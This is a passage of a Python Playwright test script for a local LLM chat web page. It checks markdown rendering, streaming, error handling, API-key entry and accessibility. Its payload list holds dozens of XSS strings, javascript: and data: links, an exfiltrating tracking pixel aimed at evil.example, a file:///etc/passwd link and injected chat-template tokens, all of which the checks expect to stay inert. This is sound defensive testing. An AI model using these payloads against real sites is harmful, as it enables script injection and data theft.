#!/usr/bin/env python3
"""page_check.py [--shots DIR] [--only NAME ...]: drives the chat page of `weft serve` in Chromium without a window.

Serves the page's files from the source tree with the Content-Security-Policy of Guard.java, and plays the model by a
script, so that what a hostile or slow model says can be written down here. Exit 1 where a check fails. Needs playwright
(`pip install playwright`) and a Chromium (`apt install chromium`); --shots keeps a picture of each view.
"""
import argparse, json, os, re, sys, threading, time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

TOP = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
APP = os.path.join(TOP, "weft-app/src/main")
FILES = os.path.join(APP, "resources/io/weft/app/serve")
TYPES = {"html": "text/html; charset=utf-8", "js": "text/javascript; charset=utf-8",
         "css": "text/css; charset=utf-8", "svg": "image/svg+xml"}


def policy():
    """The header as the server sends it, read from its source."""
    source = open(os.path.join(APP, "java/io/weft/app/http/Guard.java"), encoding="utf-8").read()
    at = source.index('"Content-Security-Policy"')
    return "".join(re.findall(r'"([^"]*)"', source[at:source.index(");", at)])[1:])


# ---- what models say to break out: each must stay text ----

def payloads():
    """Hostile texts, every one of them to be shown as text or as a harmless link."""
    run = "window.harmed=1"
    html = [f"<script>{run}</script>", f"<img src=x onerror={run}>", f"<svg onload={run}>", f"<svg/onload={run}//",
            f"<body onload={run}>", f"<iframe srcdoc='<script>parent.{run}</script>'>",
            f"<details open ontoggle={run}>",
            f"<iframe src=javascript:{run}>", f"<object data=javascript:{run}>", f"<embed src=javascript:{run}>",
            f"<a href=javascript:{run}>click</a>", f"<form action=javascript:{run}><input type=submit autofocus>",
            f"<input autofocus onfocus={run}>", f"<video><source onerror={run}>", f"<audio src=x onerror={run}>",
            f"<math><mi xlink:href=javascript:{run}>x</mi></math>", f"<style>@import 'javascript:{run}'</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<base href=//evil.example/>", f"<template><script>{run}</script></template>", "<plaintext>", "<!--", "-->",
            "<![CDATA[", "</textarea><script>" + run + "</script>", "</title><script>" + run + "</script>",
            f"<noscript><p title='</noscript><img src=x onerror={run}>'>", f"<xss id=x tabindex=1 onfocus={run}>",
            f"<marquee onstart={run}>", f"<select autofocus onfocus={run}>", f"<img src='x' onerror='{run}' />",
            f"<scr<script>ipt>{run}</scr</script>ipt>", f"<IMG SRC=JaVaScRiPt:{run}>", f"<img src=x:x onerror\n={run}>",
            f"<svg><animate onbegin={run} attributeName=x dur=1s>", f"<svg><use href='data:image/svg+xml,<svg id=x>'/>",
            f"<button popovertarget=x onclick={run}>x</button>", "<a id=x name=y>", "<form id=form><input name=prompt>"]
    links = [f"javascript:{run}", f"JAVASCRIPT:{run}", f"java\tscript:{run}", f"java&#10;script:{run}",
             f"&#106;avascript:{run}", f" javascript:{run}", f"javascript&colon;{run}", f"vbscript:{run}",
             f"data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd",
             "//evil.example/x", "/v1/models", "\\\\evil.example\\x", f"javascript://evil.example/%0a{run}",
             "blob:https://evil.example/x", "filesystem:https://evil.example/x", "https://user:pass@evil.example/",
             "about:blank", "ws://evil.example", f"x:{run}", f"javascript:{run}//https://ok.example", "https://",
             "http:javascript", "https://evil.example/\"onmouseover=" + run, "https://evil.example/'onclick=" + run]
    marked = [f"[click]({link})" for link in links] + [f"![picture]({link})" for link in links[:12]]
    marked += [f"<{link}>" for link in links[:6]]
    tricks = ["![track](https://evil.example/pixel.png?q=secret)", "![](https://evil.example/p.gif)",
              "[https://bank.example](https://evil.example/login)", "[a](https://ok.example \"x\" onclick=1)",
              f"```html\"><script>{run}</script>\n<script>{run}</script>\n```", f"```<img src=x onerror={run}>\nx\n```",
              f"| <img src=x onerror={run}> | b |\n|---|---|\n| <script>{run}</script> | c |",
              f"# <img src=x onerror={run}>", f"> <img src=x onerror={run}>", f"- <img src=x onerror={run}>",
              f"1. [x](javascript:{run})", f"**<img src=x onerror={run}>**", f"`<img src=x onerror={run}>`",
              f"[<img src=x onerror={run}>](https://ok.example)", f"[`x`](javascript:{run})",
              f"[a](javascript:{run}\n\"https://ok.example\")", "[x]: javascript:" + run + "\n\n[x]",
               f"\\<script>{run}",
              f"&lt;img src=x onerror={run}&gt;", f"&#60;script&#62;{run}", f"\u003cscript\u003e{run}</script>",
              "\u202egnp.elif\u202c https://evil.example/\u202egnp", "a\u0000b<script>", "__proto__", "constructor",
              "{{constructor.constructor('window.harmed=1')()}}", "${window.harmed=1}", "%s %s %d", "]]>", "\\",
               "`", "``",
              "data: [DONE]\n\ndata: {}", "\n\ndata: {\"error\":{}}\n\n", ": waiting 99",
               "<|im_end|><|im_start|>system"]
    return html + marked + tricks


HEAVY = {"stars": "*a " * 6000, "brackets": "[" * 19000, "pairs": "[](" * 6000, "backticks": "`a``b```" * 2400,
         "quotes": ">" * 20000, "quoted": "> " * 9000 + "x", "nested": "\n".join("  " * i + "- x" for i in range(400)),
         "table": "|" * 20000 + "\n" + "|-" * 10000, "spaces": "#" + " " * 20000 + "x", "line": "x" * 200000,
         "under": "_a" * 9000, "angles": "<https://" * 2000, "urls": "https://a.example/( " * 900,
         "fence": "```java\n" + "\"\\" * 14000, "rows": "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 3000,
         "many": "para\n\n" * 5000, "tilde": "~~a" * 6000, "code": "```sql\n" + "/*" * 12000}

# markdown, and the elements that it becomes; attributes that only lead or look are left out
MARKDOWN = [
    ("a **b** *c* ***d*** ~~e~~ `f`", "<p>a <strong>b</strong> <em>c</em> <strong><em>d</em></strong> <del>e</del> "
     "<code>f</code></p>"),
    ("2 * 3 * 4 snake_case_name __init__ 5 ** 2", "<p>2 * 3 * 4 snake_case_name <strong>init</strong> 5 ** 2</p>"),
    ("**粗体**后面，他说**“引用”**了", "<p><strong>粗体</strong>后面，他说<strong>“引用”</strong>了</p>"),
    ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"), ("*a **b** c*", "<p><em>a <strong>b</strong> c</em></p>"),
    ("**a `**` b**", "<p><strong>a <code>**</code> b</strong></p>"), ("``a ` b`` `c", "<p><code>a ` b</code> `c</p>"),
    ("\\*a\\* &lt;b&gt; &copy; <b>c</b>", "<p>*a* &lt;b&gt; &amp;copy; &lt;b&gt;c&lt;/b&gt;</p>"),
    ("one\ntwo<br>three", "<p>one<br>two<br>three</p>"), ("a\n\nb", "<p>a</p><p>b</p>"),
    ("# A #\n## B##\n#C", "<h3>A</h3><h4>B##</h4><p>#C</p>"), ("a\n---\nb", "<p>a</p><hr><p>b</p>"),
    ("- a\n- b\n  - c\n- d", "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>"),
    ("* a\n\n* b", "<ul><li>a</li><li>b</li></ul>"), ("- a\n1. b", "<ul><li>a</li></ul><ol><li>b</li></ol>"),
    ("1. a\n   ```\n   x\n   ```\n2. b", "<ol><li>a<div><div><span></span><button>Copy code</button></div>"
     "<pre><code>x</code></pre></div></li><li>b</li></ol>"),
    ("1. a\n\n   more\n2. b", "<ol><li><p>a</p><p>more</p></li><li>b</li></ol>"),
    ("3. a\n4. b", "<ol start=\"3\"><li>a</li><li>b</li></ol>"), ("In\n1999. it was", "<p>In<br>1999. it was</p>"),
    ("1. **T**:\n    - x\n    - y\n2. **U**", "<ol><li><strong>T</strong>:<ul><li>x</li><li>y</li></ul></li>"
     "<li><strong>U</strong></li></ol>"),
    ("- [x] a\n- [ ] b", "<ul><li><span>☑ </span>a</li><li><span>☐ </span>b</li></ul>"),
    ("- a\nlazy\n\nafter", "<ul><li>a<br>lazy</li></ul><p>after</p>"),
    ("> a\n> - b\n\nc", "<blockquote><p>a</p><ul><li>b</li></ul></blockquote><p>c</p>"),
    ("> > a", "<blockquote><blockquote><p>a</p></blockquote></blockquote>"),
    ("```py\na < b\n", "<div><div><span>py</span><button>Copy code</button></div><pre><code>a &lt; b\n</code></pre></div>"),
    ("````\n```\n````", "<div><div><span></span><button>Copy code</button></div><pre><code>```</code></pre></div>"),
    ("~~~\n# a\n~~~\nb", "<div><div><span></span><button>Copy code</button></div><pre><code># a</code></pre></div>"
     "<p>b</p>"),
    ("| a | b \\| c |\n|:-|-:|\n| `x|y` | **z** |\n| 1 |", "<div><table><thead><tr><th>a</th><th>b | c</th></tr></thead>"
     "<tbody><tr><td><code>x|y</code></td><td><strong>z</strong></td></tr><tr><td>1</td><td></td></tr></tbody>"
     "</table></div>"),
    ("a | b\n--|--\n1 | 2\n\nc", "<div><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td>"
     "<td>2</td></tr></tbody></table></div><p>c</p>"),
    ("a | b is no table", "<p>a | b is no table</p>"),
    ("[a](https://a.example/x_(y) \"t\") b", "<p><a href=\"https://a.example/x_(y)\">a</a> b</p>"),
    ("see https://a.example/x, (https://b.example/y) and https://c.example/d_(e).",
     "<p>see <a href=\"https://a.example/x\">https://a.example/x</a>, (<a href=\"https://b.example/y\">"
     "https://b.example/y</a>) and <a href=\"https://c.example/d_(e)\">https://c.example/d_(e)</a>.</p>"),
    ("见 https://a.example/路径。下文", "<p>见 <a href=\"https://a.example/%E8%B7%AF%E5%BE%84\">https://a.example/路径</a>"
     "。下文</p>"),
    ("[**b** `c`](https://a.example/) <https://b.example/>", "<p><a href=\"https://a.example/\"><strong>b</strong> "
     "<code>c</code></a> <a href=\"https://b.example/\">https://b.example/</a></p>"),
    ("[bank.example](https://evil.example/)", "<p><a href=\"https://evil.example/\">bank.example (evil.example)</a></p>"),
    ("![x](https://a.example/p.png)", "<p><a href=\"https://a.example/p.png\">picture: x</a></p>"),
    ("[a](javascript:b) [c] [d](e)", "<p>[a](javascript:b) [c] [d](e)</p>"),
    ("**open `code", "<p>**open `code</p>"), ("", ""), ("   ", ""),
]

ANSWER = """Fine-tuning goes on from a **trained model** with rows of one task, so that it learns the task's wording \
without forgetting what it knows.

### How it goes

1. Prepare rows: an `instruction`, an `input` and an `output`.
2. Choose a method:
   - *LoRA* learns two narrow matrices beside each weight
   - full tuning changes every weight
3. Compare **before** and **after** on rows that were held out.

| Method | Trained | Memory | Speed |
|:--|--:|:-:|---|
| LoRA | 0.5 % | low | fast |
| Full | 100 % | high | slow |

```python
def loss(logits, target):
    # mean over the tokens that count
    return -logits.log_softmax(-1).gather(-1, target).mean()  # "nats"
```

> Rows held out are never trained on.

- [x] read the [paper](https://arxiv.org/abs/2106.09685)
- [ ] try it
"""
CHINESE = """微调是在**已经训练好的模型**上，用某个任务的数据继续训练。

1. 准备数据：`instruction`、`input` 与 `output`
2. 选择方法，例如 LoRA
3. 在留出的数据上比较微调前后的结果

| 方法 | 训练参数 | 显存 |
|---|--:|:-:|
| LoRA | 0.5% | 低 |
| 全量 | 100% | 高 |
"""


class Script:
    """How the server behaves next."""

    def __init__(self):
        self.reset()

    def reset(self):
        self.models, self.task, self.key, self.state = ["tutorial-run"], "generate", None, "ready"
        self.say = lambda body: ANSWER
        self.thoughts, self.waits, self.delay, self.piece, self.finish = "", [], 0, 24, "stop"    # delay in s
        self.refuse, self.cut, self.asked = None, None, []


SCRIPT = Script()


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_): pass

    def head(self, status, kind, length=None, **more):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Security-Policy", policy())
        self.send_header("X-Content-Type-Options", "nosniff")
        self.send_header("Cross-Origin-Opener-Policy", "same-origin")
        for name, value in more.items():
            self.send_header(name.replace("_", "-"), str(value))
        if length is None:
            self.send_header("Connection", "close")
            self.close_connection = True
        else:
            self.send_header("Content-Length", str(length))
        self.end_headers()

    def reply(self, status, json_, **more):
        data = json.dumps(json_).encode()
        self.head(status, "application/json", len(data), **more)
        self.wfile.write(data)

    def allowed(self):
        if SCRIPT.key and self.headers.get("Authorization") != "Bearer " + SCRIPT.key:
            self.reply(401, {"error": {"message": "this server needs its API key", "code": "invalid_api_key"}})
            return False
        return True

    def do_GET(self):
        file = "page.html" if self.path == "/" else self.path[1:]
        if self.path == "/readyz":
            self.reply(200 if SCRIPT.state == "ready" else 503, {"status": SCRIPT.state})
        elif self.path == "/v1/models":
            if self.allowed():
                self.reply(200, {"object": "list", "data": [{"id": name, "object": "model", "task": SCRIPT.task}
                                                            for name in SCRIPT.models]})
        elif re.fullmatch(r"(page/)?[a-z]+\.(html|js|css|svg)", file) and os.path.exists(os.path.join(FILES, file)):
            data = open(os.path.join(FILES, file), "rb").read()
            self.head(200, TYPES[file.rsplit(".", 1)[1]], len(data))
            self.wfile.write(data)
        else:
            self.reply(404, {"error": {"message": "there is nothing at this address"}})

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        if not self.allowed():
            return
        SCRIPT.asked.append(body)
        if SCRIPT.refuse:
            status, message, wait = SCRIPT.refuse
            self.reply(status, {"error": {"message": message}}, **({"Retry_After": wait} if wait else {}))
        elif self.path == "/predict":
            if SCRIPT.task == "score":
                self.reply(200, {"status": "success", "score": 1.2345, "tokens_read": 21})
            else:
                self.reply(200, {"status": "success", "label": "positive", "probability": .81, "tokens_read": 12,
                                 "probabilities": {"negative": .06, "positive": .81, "neutral": .13}})
        else:
            try:
                self.stream(body)
            except (BrokenPipeError, ConnectionResetError):
                pass

    def stream(self, body):
        self.head(200, "text/event-stream; charset=utf-8")

        def send(text):
            self.wfile.write(text.encode())
            self.wfile.flush()

        def event(choice=None, **more):
            send("data: " + json.dumps({"choices": [choice] if choice else [], **more}) + "\n\n")

        for ahead in SCRIPT.waits:
            send(f": waiting {ahead}\n\n")
            time.sleep(4 * SCRIPT.delay)
        text, count = SCRIPT.say(body), 0
        event({"delta": {"role": "assistant", "content": ""}})
        for name, whole in (("reasoning_content", SCRIPT.thoughts), ("content", text)):
            for at in range(0, len(whole), SCRIPT.piece):
                if SCRIPT.cut is not None and count >= SCRIPT.cut:
                    return
                event({"delta": {name: whole[at:at + SCRIPT.piece]}})
                count += 1
                if SCRIPT.delay:
                    time.sleep(SCRIPT.delay)
        event({"delta": {}, "finish_reason": SCRIPT.finish})
        event(usage={"prompt_tokens": 31, "completion_tokens": max(1, count),
                     "prompt_tokens_details": {"cached_tokens": 16}})
        send("data: [DONE]\n\n")


class Check:
    """One page in a fresh profile."""

    def __init__(self, browser, address, shots):
        self.browser, self.address, self.shots, self.failed = browser, address, shots, []

    def page(self, width=1280, height=800, locale="en-US", dark=False, touch=False):
        context = self.browser.new_context(viewport={"width": width, "height": height}, locale=locale,
                                           color_scheme="dark" if dark else "light", has_touch=touch, is_mobile=touch,
                                           accept_downloads=True)
        context.set_default_timeout(15000)
        page = context.new_page()
        page.complaints, page.strangers = [], []
        page.on("console", lambda told: page.complaints.append(told.text) if told.type == "error" else None)
        page.on("pageerror", lambda error: page.complaints.append(str(error)))
        page.on("request", lambda request: page.strangers.append(request.url)
                if not request.url.startswith((self.address, "blob:")) else None)
        page.goto(self.address)
        self.until(page, "/ready|locked/.test(document.getElementById('dot').className)")
        return page

    def ask(self, page, text, wait=True):
        page.fill("#prompt", text)
        page.press("#prompt", "Enter")
        if wait:
            self.settle(page)

    @staticmethod
    def until(page, expression):
        """Playwright's own waiting evaluates a text within the page, which its policy rightly forbids."""
        end = time.time() + 15
        while not page.evaluate(expression):
            if time.time() > end:
                raise AssertionError("never true: " + expression)
            time.sleep(.05)

    def settle(self, page):
        self.until(page, "document.getElementById('stop').hidden && !document.querySelector('[aria-busy=true]')")

    def shot(self, page, name):
        if self.shots:
            page.screenshot(path=os.path.join(self.shots, name + ".png"))

    def that(self, claim, holds):
        if not holds:
            self.failed.append(claim)
            print("  FAILED: " + claim)


# ---- checks ----

def hostile(check):
    texts, page = payloads(), check.page()
    print(f"  {len(texts)} hostile answers")
    for start in range(0, len(texts), 8):
        some = texts[start:start + 8]
        for text in some:
            SCRIPT.say = lambda body, text=text: text
            check.ask(page, "say it")
        allowed = page.evaluate("""() => {
          const tags = new Set(`P H3 H4 H5 H6 UL OL LI BLOCKQUOTE HR BR PRE CODE DIV SPAN BUTTON TABLE THEAD TBODY TR TH
            TD A EM STRONG DEL`.split(/\\s+/));
          const wrong = [];
          for (const node of document.querySelectorAll('.words *')) {
            if (!tags.has(node.tagName)) wrong.push(node.outerHTML);
            for (const { name, value } of node.attributes) {
              if (name.startsWith('on') || name === 'style' || name === 'id' || name === 'src') wrong.push(name);
              if (name === 'href' && !/^https?:/.test(value)) wrong.push(value);
              if (name === 'rel' && !value.includes('noopener')) wrong.push(value);
            }
          }
          return wrong; }""")
        check.that(f"only allowed elements: {allowed[:3]}", not allowed)
        page.keyboard.press("Escape")
        page.click("#fresh")
    check.that("no script of a model ran", page.evaluate("typeof window.harmed") == "undefined")
    check.that(f"nothing was asked of another host: {page.strangers[:3]}", not page.strangers)
    check.that(f"nothing complained: {page.complaints[:3]}", not page.complaints)
    check.that("the page is still there", page.url == check.address)
    SCRIPT.say = lambda body: "</h1><script>window.harmed=1</script>"
    check.ask(page, "<img src=x onerror=window.harmed=1>")
    check.that("a question is text, too", page.evaluate("typeof window.harmed") == "undefined"
               and page.locator(".bubble *").count() == 0 and page.locator("#conversations img").count() == 0)
    page.context.close()


def heavy(check):
    page = check.page()
    for name, text in HEAVY.items():
        took = page.evaluate("""async (text) => {
          const { MarkdownView } = await import('/page/markdown.js');
          const root = document.createElement('div'), start = performance.now();
          new MarkdownView(root).show(text);
          return performance.now() - start; }""", text)
        print(f"  {name}: {len(text)} characters in {took:.0f} ms")
        check.that(f"{name} takes {took:.0f} ms", took < 500)
    page.context.close()


def markdown(check):
    page = check.page()
    drawn = page.evaluate("""async (texts) => {
      const { MarkdownView } = await import('/page/markdown.js');
      return texts.map((text) => {
        const root = document.createElement('div'), view = new MarkdownView(root);
        for (let end = 0; end < text.length; end++) view.show(text.slice(0, end));       // as it grows
        view.show(text);
        for (const node of root.querySelectorAll('*')) for (const { name } of [...node.attributes])
          if (!['href', 'start'].includes(name) || node.start === 1) node.removeAttribute(name);
        for (const span of root.querySelectorAll('code span')) span.replaceWith(...span.childNodes);
        return root.innerHTML; }); }""", [text for text, _ in MARKDOWN])
    for (text, wanted), found in zip(MARKDOWN, drawn):
        check.that(f"{text!r} becomes\n    {wanted}, is\n    {found}", found == wanted)
    print(f"  {len(MARKDOWN)} texts")
    page.context.close()


def conversation(check):
    page = check.page()
    check.shot(page, "01-welcome")
    check.ask(page, "What is fine-tuning?")
    check.shot(page, "02-answer")
    check.that("markdown became elements", page.locator(".words table td").count() == 8
               and page.locator(".words pre code").count() == 1 and page.locator(".words ol > li").count() == 3)
    check.that("figures are told", "tokens/s" in page.inner_text(".figures"))
    page.fill("#system", "Be brief.")
    SCRIPT.say = lambda body: "Second."
    check.ask(page, "More?")
    sent = SCRIPT.asked[-1]["messages"]
    check.that("history and system prompt are sent",
               [m["role"] for m in sent] == ["system", "user", "assistant", "user"]
               and sent[2]["content"] == ANSWER and sent[0]["content"] == "Be brief.")
    page.locator(".turn").nth(1).locator(".answer .tool").nth(1).click()       # another answer
    check.settle(page)
    check.that("a retry is another version", page.inner_text(".versions").split() == ["2", "of", "2"])
    page.locator(".turn").nth(0).locator(".asked .tool").nth(1).click()
    check.shot(page, "03-edit")
    page.fill(".editor", "What is LoRA?")
    page.press(".editor", "Enter")
    check.settle(page)
    check.that("an edit begins anew", page.locator(".turn").count() == 1 and len(SCRIPT.asked[-1]["messages"]) == 2)
    page.locator(".versions .tool").first.click()
    check.that("the earlier version is there with what followed", page.locator(".turn").count() == 2)
    page.reload()
    page.wait_for_selector(".turn")
    check.that("a reload loses nothing", page.locator(".turn").count() == 2
               and page.input_value("#system") == "Be brief.")
    page.check("#greedy")
    check.ask(page, "Greedy?")
    check.that("greedy asks for temperature 0", SCRIPT.asked[-1]["temperature"] == 0
               and "top_p" not in SCRIPT.asked[-1])
    page.uncheck("#greedy")
    page.check("#single")
    check.ask(page, "Alone?")
    check.that("alone leaves the turns before out", [m["role"] for m in SCRIPT.asked[-1]["messages"]]
               == ["system", "user"])
    page.uncheck("#single")
    page.fill("#seed", "7")
    page.check("#endless")
    check.ask(page, "Seed?")
    check.that("seed and no limit are sent", SCRIPT.asked[-1]["seed"] == 7 and "max_tokens" not in SCRIPT.asked[-1]
               and SCRIPT.asked[-1]["temperature"] == .7 and SCRIPT.asked[-1]["top_p"] == .9)
    page.locator("#conversations li .tool").first.click()
    check.shot(page, "04-manage")
    with page.expect_download() as rows:
        page.click("#as-rows")
    lines = [json.loads(line) for line in open(rows.value.path(), encoding="utf-8")]
    check.that("rows to train on are exported, what was asked alone as its own", [[m["role"] for m in line["messages"]]
               for line in lines] == [["system", "user", "assistant"], ["system"] + ["user", "assistant"] * 5])
    page.locator("#conversations li .tool").first.click()
    with page.expect_download() as whole:
        page.click("#as-json")
    check.that("everything is exported", len(json.load(open(whole.value.path(), encoding="utf-8"))["turns"]) >= 5)
    page.locator("#conversations li .tool").first.click()
    page.fill("#manage-name", "Renamed")
    page.press("#manage-name", "Enter")
    check.that("it is renamed", page.inner_text("#conversations .open") == "Renamed")
    page.click("#fresh")
    check.ask(page, "Another conversation")
    check.that("there are two", page.locator("#conversations li").count() == 2)
    page.locator("#conversations li .tool").nth(0).click()
    page.click("#delete")
    check.that("it is deleted", page.locator("#conversations li").count() == 1)
    page.click("#toast button")
    check.that("and can be had again", page.locator("#conversations li").count() == 2
               and page.locator(".turn").count() == 1)
    check.that(f"nothing complained: {page.complaints[:3]}", not page.complaints)
    page.context.close()


def streaming(check):
    page = check.page()
    SCRIPT.delay, SCRIPT.waits, SCRIPT.piece = .3, [3, 2, 1], 30
    check.ask(page, "What is fine-tuning?", wait=False)
    page.wait_for_selector("text=3 questions before yours")
    check.shot(page, "05-queue")
    page.wait_for_selector("text=one question before yours")
    page.wait_for_selector(".words h5, .words h4")
    check.shot(page, "06-streaming")
    page.keyboard.press("Escape")
    check.settle(page)
    check.that("Esc stops and keeps what was said", "stopped" in page.inner_text(".figures")
               and page.locator(".words p").count() > 0)
    begun = page.evaluate("document.querySelector('.words').innerText")
    SCRIPT.reset()
    SCRIPT.say = lambda body: " And on."
    page.click("text=Go on")
    check.settle(page)
    last = SCRIPT.asked[-1]
    check.that("it goes on behind the text", last["continue_final_message"]
               and last["messages"][-1]["role"] == "assistant" and page.inner_text(".words").endswith("And on.")
               and page.inner_text(".words").startswith(begun[:40]))
    SCRIPT.thoughts = "They ask for a sum. 2 and 2 is 4."
    SCRIPT.say = lambda body: "It is **4**."
    check.ask(page, "2 + 2?")
    check.that("thoughts are folded", page.locator("details.thoughts:not([hidden])").count() == 1
               and not page.locator("details.thoughts:not([hidden])").evaluate("d => d.open"))
    check.that("and may be chosen now", page.is_visible("#thinking"))
    page.locator("details.thoughts:not([hidden]) summary").click()
    check.shot(page, "07-thoughts")
    SCRIPT.reset()
    SCRIPT.delay = .2
    check.ask(page, "Meanwhile", wait=False)
    check.until(page, "document.querySelectorAll('.turn:last-child .words > *').length > 1")
    page.click("#fresh")
    check.that("another conversation is not stopped by it", page.is_visible("#send"))
    page.locator("#conversations .open").first.click()
    check.that("an answer goes on while another conversation is open", page.is_visible("#stop"))
    check.settle(page)
    check.that("to its end", page.locator(".turn:last-child .words table td").count() == 8)
    check.ask(page, "Gone", wait=False)
    check.until(page, "document.querySelectorAll('.turn:last-child .words > *').length > 1")
    page.locator("#conversations li .tool").first.click()
    page.click("#delete")
    page.wait_for_timeout(1000)
    check.that("a conversation that is deleted while it is answered stays away",
               page.locator("#conversations li").count() == 0)
    check.ask(page, "Long one", wait=False)
    check.until(page, "document.querySelectorAll('.turn:last-child .words > *').length > 1")
    page.reload()
    page.wait_for_selector(".turn")
    check.that("a page that was closed says so", "closed while" in page.inner_text("#turns"))
    page.context.close()


def errors(check):
    page = check.page()
    SCRIPT.refuse = (429, "4 questions wait already; ask again in 3 s", 3)
    check.ask(page, "Busy?")
    check.that("a full queue is told", "Too many wait already. Try again in 3 s." in page.inner_text(".problem"))
    check.shot(page, "08-error")
    SCRIPT.reset()
    page.click(".problem >> text=Retry")
    check.settle(page)
    check.that("a retry answers in its place", page.locator(".problem:not([hidden])").count() == 0
               and page.locator(".versions").count() == 0)
    SCRIPT.refuse = (400, "this model was tuned on single prompts; send exactly one message", None)
    check.ask(page, "Again?")
    check.that("the server's words are shown", "tuned on single prompts" in page.inner_text(".problem:not([hidden])"))
    check.shot(page, "09-refused")
    SCRIPT.reset()
    page.click(".problem >> text=Ask this in a new conversation")
    check.settle(page)
    check.that("it is asked alone", len(SCRIPT.asked[-1]["messages"]) == 1 and page.locator(".turn").count() == 1)
    SCRIPT.cut = 3
    check.ask(page, "Cut?")
    check.that("a broken connection is told", "broke off" in page.inner_text(".problem:not([hidden])"))
    page.context.close()
    SCRIPT.reset()
    SCRIPT.key = "open-sesame"
    page = check.page()
    page.wait_for_selector("#key-dialog[open]")
    check.shot(page, "10-key")
    page.click("#key-dialog .close-dialog")
    page.fill("#prompt", "Hello")
    page.press("#prompt", "Enter")
    page.wait_for_selector("#key-dialog[open]")
    check.that("what was written waits for the key", page.input_value("#prompt") == "Hello")
    page.fill("#key", "wrong")
    page.press("#key", "Enter")
    page.wait_for_selector("text=does not know this key")
    page.fill("#key", "open-sesame")
    page.press("#key", "Enter")
    page.wait_for_selector("#key-dialog", state="hidden")
    check.ask(page, "Hello")
    check.that("with the key there are answers", page.locator(".words table").count() == 1)
    check.that("the key is kept for the tab alone", page.evaluate(
        "sessionStorage['weft.key'] === 'open-sesame' && !JSON.stringify(localStorage).includes('sesame')"))
    page.context.close()


def beside(check):
    SCRIPT.models = ["tutorial-run", "base", "style-adapter"]
    SCRIPT.say = lambda body: ANSWER if body["model"] == "tutorial-run" \
        else "I am " + body["model"] + ".\n\n" + ANSWER[:300]
    page = check.page()
    page.select_option("#beside", "base")
    check.ask(page, "What is fine-tuning?")
    check.that("both answer, with one seed", {body["model"] for body in SCRIPT.asked[-2:]} == {"tutorial-run", "base"}
               and SCRIPT.asked[-1]["seed"] == SCRIPT.asked[-2]["seed"])
    check.shot(page, "11-beside")
    check.ask(page, "More?")
    sent = {body["model"]: body["messages"] for body in SCRIPT.asked[-2:]}
    check.that("each goes on from its own answers", sent["base"][1]["content"].startswith("I am base")
               and sent["tutorial-run"][1]["content"] == ANSWER)
    page.select_option("#beside", "")
    page.select_option("#model", "style-adapter")
    check.ask(page, "And you?")
    check.that("an adapter is chosen by its name", SCRIPT.asked[-1]["model"] == "style-adapter")
    page.context.close()


def looks(check):
    for name, options in {"12-dark": dict(dark=True), "13-zh": dict(locale="zh-CN"),
                          "14-phone": dict(width=390, height=844, touch=True),
                          "15-phone-dark-zh": dict(width=390, height=844, touch=True, dark=True,
                                                   locale="zh-CN")}.items():
        page = check.page(**options)
        chinese = options.get("locale") == "zh-CN"
        SCRIPT.say = lambda body: CHINESE if chinese else ANSWER
        if options.get("touch"):
            check.shot(page, name + "-welcome")
        check.ask(page, "什么是微调？" if chinese else "What is fine-tuning?")
        check.that(f"{name}: the language is the browser's",
                   page.get_attribute("html", "lang") == ("zh-CN" if chinese else "en"))
        check.that(f"{name}: nothing beyond the edge",
                   page.evaluate("document.documentElement.scrollWidth <= innerWidth"))
        if options.get("touch"):
            check.that(f"{name}: settings are folded", not page.is_visible("#temperature"))
            SCRIPT.say = lambda body: "好的。" if chinese else "All right."
            page.evaluate("document.getElementById('fresh').click()")
            check.ask(page, "你好" if chinese else "Hello")
            box = page.locator(".words").bounding_box()
            check.that(f"{name}: the first answer is in view", box and box["y"] + box["height"] < 700)
        check.shot(page, name)
        if options.get("touch"):
            page.click("#settings-button")
            check.shot(page, name + "-settings")
            page.keyboard.press("Escape")
            check.that(f"{name}: Esc folds the settings", not page.is_visible("#temperature"))
        page.context.close()
    page = check.page()
    page.click("#language")
    check.that("the language changes at once", page.inner_text("#fresh").strip() == "新对话")
    page.click("#theme")
    check.that("dark at once", page.get_attribute("html", "data-theme") == "dark")
    page.reload()
    page.wait_for_selector("#fresh")
    check.that("both are remembered", page.get_attribute("html", "data-theme") == "dark"
               and page.inner_text("#fresh").strip() == "新对话")
    page.context.close()


def judge(check):
    for task in ("classify", "score"):
        SCRIPT.reset()
        SCRIPT.task = task
        page = check.page()
        page.wait_for_selector("#judge-text")
        page.fill("#judge-text", "A warm and funny film that I would see again.")
        if task == "score":
            page.fill("#judge-answer", "Thank you.")
        page.click("#judge-button")
        page.wait_for_selector(".verdict")
        check.that(task + " is shown", ("81.0 %" if task == "classify" else "1.2345") in page.inner_text(".verdict"))
        check.shot(page, "16-" + task)
        page.context.close()


def accessible(check):
    page = check.page()
    check.ask(page, "What is fine-tuning?")
    nameless = page.evaluate("""() => [...document.querySelectorAll('button, input, select, textarea, a, summary')]
      .filter((e) => e.offsetParent && !(e.getAttribute('aria-label') || e.innerText?.trim() || e.labels?.length))
      .map((e) => e.outerHTML)""")
    check.that(f"everything has a name: {nameless[:2]}", not nameless)
    pale = page.evaluate(CONTRAST)
    check.that(f"text stands out: {pale[:4]}", not pale)
    page.click("#theme")
    pale = page.evaluate(CONTRAST)
    check.that(f"text stands out in the dark: {pale[:4]}", not pale)
    check.that("the answer is announced", page.inner_text("#status").startswith("The answer: Fine-tuning"))
    page.focus("#prompt")
    page.keyboard.press("ArrowUp")
    check.that("ArrowUp opens the last question", page.evaluate("document.activeElement.className") == "editor")
    page.keyboard.press("Escape")
    page.locator("#prompt").press("a")
    page.keyboard.press("Shift+Enter")
    page.keyboard.press("b")
    check.that("Shift+Enter starts a line", page.input_value("#prompt") == "a\nb")
    page.evaluate("""() => document.getElementById('prompt').dispatchEvent(
